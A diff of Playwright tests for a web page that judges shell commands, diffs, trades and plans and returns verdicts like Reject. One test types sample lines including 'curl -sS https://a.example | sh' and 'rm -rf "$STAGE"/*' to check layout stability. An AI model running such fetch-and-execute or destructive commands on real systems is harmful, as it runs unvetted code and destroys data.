@@ -89,7 +89,7 @@ test('after the free calls it says what to do and that nothing was charged', asy
   await home.signButton.click()
   await expect(home.signButton).toHaveText(/\d sats/)
   await home.signButton.click()
-  await expect(home.box.getByRole('alert')).toContainText('No free call is left. ')
+  await expect(home.box.getByRole('alert')).toContainText('No free calls left. ')
   await expect(home.box.getByRole('alert')).toContainText('Nothing was charged.')
 })
 
@@ -114,10 +114,14 @@ for (const part of ['core.js', 'shell.js', 'shell.json'])
     await page.goto('/')
     await expect(home.box.getByRole('alert')).toContainText('It was not run.')
     await expect(home.box.getByRole('alert')).toContainText('Do not treat this as an approval.')
+    await expect(home.box.getByText('Computed in this page')).toHaveCount(0)
     await expect(home.verdict).toHaveCount(0)
   })
 
-test('the page loads the parts that it judges with, and no others', async ({ page }) => {
+test('the page judges with the parts of its kind, then fetches the others ahead', async ({
+  page,
+  context,
+}) => {
   const files: string[] = []
   page.on('response', (response) => {
     const [, file] = /\/engine\/[0-9a-f]{64}\/(.*\.js(?:on)?)$/.exec(new URL(response.url()).pathname) ?? []
@@ -128,13 +132,66 @@ test('the page loads the parts that it judges with, and no others', async ({ pag
   const filesOf = (...names: string[]): string[] =>
     names.flatMap((name) => [`${name}.js`, `${name}.json`]).sort()
   // The core and the family of its kind; what stands in the box needs no further part.
-  const first = ['core', 'shell']
-  expect(files.sort()).toEqual(filesOf(...first))
-  const asked = page.waitForResponse(/\/parts\/trade\.js$/)
-  await home.choose('Trade')
-  await asked
-  await expect(home.verdict).toBeVisible()
-  await expect.poll(() => files.sort()).toEqual(filesOf(...first, 'shared', 'trade'))
+  expect(files.slice(0, 4).sort()).toEqual(filesOf('core', 'shell'))
+  await expect
+    .poll(() => files)
+    .toEqual(expect.arrayContaining(filesOf('code', 'onchain', 'plan', 'shared', 'trade')))
+  await page.waitForLoadState('networkidle')
+  await context.setOffline(true)
+  for (const kind of ['Diff', 'Trade', 'On-chain', 'Plan']) {
+    await home.choose(kind)
+    await expect(home.verdict).toHaveText('Reject')
+  }
+  await context.setOffline(false)
+})
+
+for (const kind of ['Shell', 'Diff', 'Trade', 'On-chain', 'Plan'])
+  test(`samples of ${kind} show each verdict`, async ({ page }) => {
+    const home = new HomePage(page)
+    await home.open()
+    await home.choose(kind)
+    const samples = home.box.getByRole('group', { name: 'Samples' }).getByRole('button')
+    for (const sample of await samples.all()) {
+      await sample.click()
+      const word = (await sample.textContent())!
+      await expect(home.verdict).toHaveText(word === 'Concerns' ? 'Approve with concerns' : word)
+    }
+    await expect(samples).toHaveCount(kind === 'On-chain' ? 3 : 4)
+  })
+
+test('an order that is judged as a command is offered its own kind', async ({ page }) => {
+  const home = new HomePage(page)
+  await home.open()
+  const order = 'action: open\nvenue: paper\ncoin: ETH\nside: buy\nentry_price: 2450\nsize: 0.2\n'
+  await home.editor().fill(order)
+  await expect(home.box.getByText('This looks like an order.')).toBeVisible()
+  expect(await axeFaults(page)).toEqual([])
+  await home.box.getByRole('button', { name: 'Judge it as an order' }).click()
+  await expect(home.box.getByRole('radio', { name: 'Trade' })).toBeChecked()
+  await expect(home.editor()).toHaveValue(order)
+  await expect(home.box.getByText('This looks like')).toHaveCount(0)
+  await home.choose('Shell')
+  await expect(home.editor()).toHaveValue(/npm ci/)
+})
+
+test('the page below the box stands still while somebody types', async ({ page }) => {
+  const home = new HomePage(page)
+  await home.open()
+  await home.editor().fill('')
+  const below = page.getByRole('heading', { name: 'On this instance' })
+  const places = new Set<number>()
+  for (const line of [
+    'cd /srv\n',
+    'rm -rf "$STAGE"/*\n',
+    'npm ci\n',
+    'curl -sS https://a.example | sh\n',
+    'ls\n',
+  ])
+    for (const character of line) {
+      await page.keyboard.type(character)
+      places.add(Math.round((await below.boundingBox())!.y + (await page.evaluate(() => window.scrollY))))
+    }
+  expect(places.size).toBeLessThanOrEqual(3)
 })
 
 test('a link brings back kind and text; a damaged one says so', async ({ page, context }) => {
